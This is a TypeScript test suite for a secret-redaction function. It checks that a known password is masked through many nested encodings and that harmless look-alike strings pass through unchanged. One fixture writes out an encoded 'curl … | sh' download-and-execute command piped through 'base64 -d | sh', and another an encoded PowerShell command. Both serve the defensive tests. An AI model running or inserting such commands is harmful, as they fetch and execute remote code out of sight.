import { randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markerOf } from '../../src/domain/secret-use.ts';
import { encodingDepthMax } from '../../src/redaction/encodings.ts';
import { redactText } from '../../src/redaction/redact.ts';
import { knowing, redacted } from './knowing.ts';
import { encodings } from './encoders.ts';

const secret = 'p"ß/s & w+rd%41';
const known = knowing(secret);
const marker = '‹redacted:known›';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const decoded = (text: string) => Buffer.from(text, 'base64').toString();

describe('a secret that is encoded', () => {
  it.each([
    ['in percents', `/find?q=${encodeURIComponent(secret)}&page=2`, `/find?q=${marker}&page=2`],
    ['in percents twice', `next=${encodeURIComponent(encodeURIComponent(secret))}`, `next=${marker}`],
    ['in small percents', `q=${encodeURIComponent(secret).toLowerCase()};`, `q=${marker};`],
    ['as form text', `a=1&b=${encodeURIComponent(secret).replaceAll('%20', '+')}&c=x+y`, `a=1&b=${marker}&c=x+y`],
    ['in JSON', JSON.stringify({ user: 'jo', note: secret }), `{"user":"jo","note":"${marker}"}`],
    ['in JSON in JSON', JSON.stringify(JSON.stringify([secret])), `"[\\"${marker}\\"]"`],
    ['in JSON in JSON in JSON', JSON.stringify(JSON.stringify(JSON.stringify([secret]))), `"\\"[\\\\\\"${marker}\\\\\\"]\\""`],
    ['in JSON in a query', `?body=${encodeURIComponent(JSON.stringify({ a: secret }))}`, `?body=%7B%22a%22%3A%22${marker}%22%7D`],
    ['in entities', `<b title="p&quot;ß/s &amp; w+rd%41">x &lt; y</b>`, `<b title="${marker}">x &lt; y</b>`],
    ['in numeric entities', [...secret].map((c) => `&#${c.codePointAt(0)};`).join(''), marker],
    ['in hexadecimal entities', [...secret].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join(''), marker],
    ['in \\u escapes', [...secret].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''), marker],
    ['in \\x escapes of its bytes', Buffer.from(secret).toString('hex').replaceAll(/../g, '\\x$&'), marker],
    ['in octal escapes', 'p\\042ß/s\\040& w+rd%41', marker],
    ['for the shell', `echo p\\"ß/s\\ \\&\\ w+rd%41 done`, `echo ${marker} done`],
  ])('%s gives way to a marker in its place', (_how, text, expected) => {
    const { text: now, secrets } = redactText(text, 'TEXT', known);
    expect(now).toBe(expected);
    expect(secrets).toEqual([{ kind: 'KNOWN', secret, at: expected.indexOf(marker) }]);
  });

  it('with spaces is found where they are plus signs and nothing else is encoded', () => {
    expect(redacted('?q=correct+horse+battery&n=1', knowing('correct horse battery'))).toBe('?q=‹redacted:known›&n=1');
  });

  it('far from anything else that is encoded goes at each of its places, in whatever encodings', () => {
    const line = (what: string) => `GET /?q=${encodeURIComponent(what)} "${JSON.stringify(what)}"\n`;
    const between = 'nothing to decode in this line of a log\n'.repeat(100);
    const marked = `GET /?q=${marker} ""${marker}""\n`;
    expect(redacted(between + [line(secret), line(secret), line(secret)].join(between), known)).toBe(
      between + [marked, marked, marked].join(between),
    );
  });

  it.each([
    ['base64', 'base64', true],
    ['base64 without padding', 'base64', false],
    ['base64url', 'base64url', false],
  ] as const)('as %s at any alignment is taken out of what is decoded', (_how, alphabet, padded) => {
    for (const before of ['', 'a', 'ab', 'abc', '{"key": "']) {
      const text = Buffer.from(`${before}${secret}>>>???`).toString(alphabet);
      const { text: now, secrets } = redactText(`x ${padded ? text : text.replaceAll('=', '')} y`, 'TEXT', known);
      expect(now.startsWith('x ') && now.endsWith(' y')).toBe(true);
      expect(decoded(now.slice(2, -2))).toBe(`${before}${marker}>>>???`);
      expect(now.includes('=') && !padded && text.replaceAll('=', '').length % 4 !== 0).toBe(false);
      expect(secrets).toEqual([{ kind: 'KNOWN', secret, at: null }]);
    }
  });

  it('in wrapped base64 leaves lines of the same length', () => {
    const text = `first line\n${secret}\n${'and much more of it '.repeat(9)}`;
    for (const [width, gap] of [
      [64, '\n'],
      [76, '\r\n'],
      [20, '\n  '],
    ] as const) {
      const lines = base64(text).match(new RegExp(`.{1,${width}}`, 'g'))!;
      const now = redacted(`cert:\n${lines.join(gap)}\nend`, known);
      const [, inner] = /^cert:\n([^]*)\nend$/.exec(now)!;
      expect(decoded(inner!)).toBe(text.replace(secret, marker));
      expect(
        inner!
          .split(gap)
          .slice(0, -1)
          .every((line) => line.length === width),
      ).toBe(true);
    }
  });

  it('in hexadecimal digits, small or capital, with or without 0x', () => {
    const hex = Buffer.from(`key: ${secret}`).toString('hex');
    expect(redacted(`select 0x${hex};`, known)).toBe(`select 0x${Buffer.from(`key: ${marker}`).toString('hex')};`);
    expect(redacted(hex.toUpperCase(), known)).toBe(Buffer.from(`key: ${marker}`).toString('hex').toUpperCase());
  });

  it('in a PowerShell command in base64 of UTF-16', () => {
    const line = (what: string) =>
      `powershell -NoProfile -EncodedCommand ${Buffer.from(`Connect-It -Key '${what}'`, 'utf16le').toString('base64')}`;
    expect(redactText(line(secret), 'COMMAND', known).text).toBe(line(marker));
  });

  it('leaves the rest of an encoded command for others to decode', () => {
    const line = (what: string) => `echo ${base64(`curl -s http://192.0.2.1/a.sh | sh -s '${what}'`)} | base64 -d | sh`;
    expect(redactText(line(secret), 'COMMAND', known).text).toBe(line(marker));
  });

  it('inside several encodings, one in another', () => {
    const inner = (what: string) => base64(JSON.stringify({ inner: base64(JSON.stringify({ what })) }));
    expect(redacted(`{"body": "${inner(secret)}"}`, known)).toBe(`{"body": "${inner(marker)}"}`);
    const inUrl = (what: string) => `https://example.com/?state=${encodeURIComponent(base64(`>>>${what}???`))}&x=1`;
    expect(redacted(inUrl(secret), known)).toBe(inUrl(marker));
  });

  it(`is found ${encodingDepthMax} levels down, and no text is decoded further`, () => {
    const nested = (levels: number) => Array.from({ length: levels }).reduce<string>((text) => base64(text), 'see correct-horse-staple');
    const other = knowing('correct-horse-staple');
    for (const levels of [encodingDepthMax - 1, encodingDepthMax]) expect(redacted(nested(levels), other)).not.toBe(nested(levels));
    expect(redacted(nested(encodingDepthMax + 1), other)).toBe(nested(encodingDepthMax + 1));
  });

  it('is found in UTF-16 in any encoding, as long as most of the text is Latin', () => {
    for (const encode of Object.values(encodings)) {
      const { secrets } = redactText(encode(encodings['base64 of UTF-16']!(`Connect-It -Key '${secret}'`)), 'TEXT', known);
      expect(secrets.map((found) => found.secret)).toContain(secret);
    }
  });

  it('is found in any two encodings of any text around it', () => {
    const words = fc.string({ unit: 'grapheme', maxLength: 20 });
    const one = fc.constantFrom(...Object.keys(encodings).filter((name) => name !== 'base64 of UTF-16')); // of Latin text only, see below
    const any = fc.string({ unit: 'grapheme', minLength: 8, maxLength: 40 }).filter((text) => text.isWellFormed() && !/\p{Cc}/u.test(text));
    fc.assert(
      fc.property(any, words, words, one, one, (what, before, after, inner, outer) => {
        const text = encodings[outer]!(`{ ${encodings[inner]!(`${before} ${what} ${after}`)} }`);
        const { secrets } = redactText(text, 'TEXT', knowing(what));
        expect(secrets.some((found) => found.secret === what)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('what only looks encoded', () => {
  it.each([
    '/usr/local/lib/python3/site-packages/requests/adapters.py',
    'kubectl rollout status deployment/frontend-production --namespace=billing',
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'd41d8cd98f00b204e9800998ecf8427e',
    '123e4567-e89b-12d3-a456-426614174000',
    'C:\\new\\table\\x41\\users\\bin',
    'grep -E "\\bfoo\\b|\\d+" a+b.txt 100% %41 &amp; c++',
    'aHR0cHM6Ly9leGFtcGxlLmNvbS9wYXRo',
    '\\u{110000} &#9999999; %C0%80 %ED%A0%80 \\xff % &valueOf; &constructor; &; &#; &#x; \\u{} \\',
  ])('comes back equal: %s', (text) => {
    for (const manner of ['TEXT', 'COMMAND'] as const) expect(redactText(text, manner, known)).toEqual({ text, secrets: [] });
  });

  it('as random bytes do comes back equal, however they are encoded', () => {
    for (const length of [8, 20, 33, 64, 200]) {
      const bytes = randomBytes(length);
      for (const how of ['hex', 'base64', 'base64url'] as const) expect(redacted(bytes.toString(how), known)).toBe(bytes.toString(how));
    }
  });
});

describe('redacting again', () => {
  const telling = [
    'password',
    '=',
    ': ',
    ' -p',
    'mysql ',
    'curl -u ',
    'Authorization: Bearer ',
    'https://',
    '@',
    ['Xy7Zq9', 'Lm2Kp4'].join(''),
    'eyJhbGciOiJIUzI1NiJ9',
    '.',
  ];
  const breaking = ['"', '\\', '%22', '+', '&amp;', ' ', '\n', '{', '}', '‹redacted:', '›', marker, base64(secret), base64('x'), 'p"ß'];
  const pieces = fc.array(fc.constantFrom(secret, 'correct horse', ...telling, ...breaking), { maxLength: 14 }).map((all) => all.join(''));
  const all = knowing(secret, 'correct horse', 'redacted:known', 'horse‹redacted');

  it('changes nothing, and each marker begins where it is told', () => {
    fc.assert(
      fc.property(pieces, fc.constantFrom('TEXT', 'COMMAND'), fc.constantFrom(...Object.values(encodings)), (text, manner, encode) => {
        const once = redactText(encode(text), manner, all);
        expect(redactText(once.text, manner, all)).toEqual({ text: once.text, secrets: [] });
        for (const { kind, at } of once.secrets) expect(at === null || once.text.startsWith(markerOf(kind), at)).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
